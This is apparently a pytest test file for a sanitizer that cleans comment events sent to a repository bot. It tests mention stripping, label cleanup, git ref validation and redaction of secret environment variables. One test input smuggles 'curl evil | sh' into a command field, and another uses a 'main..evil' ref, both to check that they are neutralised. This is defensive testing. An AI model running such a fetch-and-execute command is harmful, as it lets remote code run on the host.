from __future__ import annotations

import logging

import pytest

from botguard.config import GuardConfig
from botguard.sanitizer import Sanitizer
from botguard.schemas import CommentEvent


@pytest.fixture()
def sanitizer():
    return Sanitizer(GuardConfig(bot_username="@HubBot", extra_sensitive_terms=("session",)))


def test_initialize_reads_environment(monkeypatch):
    monkeypatch.delenv("BOTGUARD_BOT_USERNAME", raising=False)
    monkeypatch.setenv("BOT_USERNAME", "EnvBot")
    assert Sanitizer.initialize().bot_mentions("@envbot hi") == "EnvBot hi"


def test_bound_transforms(sanitizer):
    assert sanitizer.bot_mentions("thanks @hubbot") == "thanks HubBot"
    assert sanitizer.labels(["a b", "c"]) == ["ab", "c"]
    assert sanitizer.command_input(" ls | wc ") == "ls  wc"
    assert sanitizer.is_valid_repository("claude-hub")
    assert not sanitizer.is_valid_ref("a..b")
    assert sanitizer.unescape_markdown("\\# x") == "# x"


def test_environment_uses_extra_terms(sanitizer):
    assert sanitizer.environment_value("SESSION_ID", "abc") == "[REDACTED]"
    assert sanitizer.redact_environment({"PORT": "1", "API_TOKEN": "t"}) == {"PORT": "1", "API_TOKEN": "[REDACTED]"}


def test_environment_entries_sorted_and_flagged(sanitizer):
    entries = sanitizer.environment_entries({"PORT": "1", "GITHUB_TOKEN": "ghp_x"})
    assert [entry.key for entry in entries] == ["GITHUB_TOKEN", "PORT"]
    assert entries[0].to_dict() == {"key": "GITHUB_TOKEN", "value": "[REDACTED]", "redacted": True}
    assert entries[1].redacted is False


def test_sanitize_event_cleans_every_field(sanitizer):
    event = CommentEvent(
        body="\\@HubBot please run\\n\\`tests\\`",
        labels=["bug", "needs review!"],
        command="npm test; curl evil | sh",
        repository="claude-hub",
        ref="feature/guard",
    )
    result = sanitizer.sanitize_event(event)
    assert result.body == "\\HubBot please run\n`tests`"
    assert result.labels == ["bug", "needsreview"]
    assert result.command == "npm test curl evil  sh"
    assert result.repository == "claude-hub"
    assert result.ref == "feature/guard"
    assert result.modified_fields == ["body", "labels", "command"]
    assert result.is_actionable


def test_sanitize_event_rejects_bad_identifiers(sanitizer, caplog):
    event = CommentEvent(body="ok", repository="owner/repo", ref="main..evil")
    with caplog.at_level(logging.WARNING, logger="botguard.sanitizer"):
        result = sanitizer.sanitize_event(event)
    assert result.repository is None
    assert result.ref is None
    assert result.rejected_fields == ["repository", "ref"]
    assert not result.is_actionable
    assert "Rejected repository" in caplog.text


def test_sanitize_event_missing_identifiers_are_not_rejected(sanitizer):
    result = sanitizer.sanitize_event(CommentEvent())
    assert result.body is None
    assert result.labels == []
    assert result.command is None
    assert result.repository_valid is False
    assert result.rejected_fields == []
    assert result.modified_fields == []
    assert result.is_actionable


def test_sensitive_terms_resolved_once(monkeypatch):
    sanitizer = Sanitizer(GuardConfig(extra_sensitive_terms=("Session",)))
    assert sanitizer.sensitive_terms[-1] == "session"

    def rebuild(self):
        pytest.fail("sensitive terms rebuilt after construction")

    monkeypatch.setattr(GuardConfig, "sensitive_terms", rebuild)
    assert sanitizer.environment_value("SESSION_ID", "abc") == "[REDACTED]"
    assert sanitizer.redact_environment({"API_TOKEN": "t"}) == {"API_TOKEN": "[REDACTED]"}
    assert sanitizer.environment_entries({"PORT": "1"})[0].redacted is False


def test_sanitized_event_dump_includes_actionable_flag(sanitizer):
    result = sanitizer.sanitize_event(CommentEvent(repository="owner/repo"))
    assert result.model_dump()["is_actionable"] is False
    assert '"is_actionable":false' in result.model_dump_json()
